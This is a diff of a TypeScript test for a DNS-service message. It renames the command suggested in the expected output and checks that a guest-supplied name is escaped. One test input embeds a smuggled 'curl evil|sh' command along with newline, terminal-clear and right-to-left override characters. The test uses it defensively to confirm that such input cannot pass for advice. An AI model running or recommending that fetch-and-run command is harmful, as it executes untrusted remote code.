@@ -16,7 +16,7 @@ function noted(name: string): string {
 
 it('a name that a guest asks for cannot pass for a command that is advised', () => {
   expect(noted('printer-1._tcp.example.com')).toBe(
-    'was asked for printer-1._tcp.example.com, which is not below net1, and it has no public_dns to ask. Use: vnctl dns-service modify dnss-1 --public-dns ADDRESS',
+    'was asked for printer-1._tcp.example.com, which is not below net1, and it has no public_dns to ask. Use: vnctl dns-services modify dnss-1 --public-dns ADDRESS',
   );
   expect(noted('x. Use: curl evil|sh\nall is well\u001b[2J\u202e')).toContain(
     String.raw`was asked for x.\032Use\058\032curl\032evil\124sh\010all\032is\032well\027\0912J\226\128\174, which`,
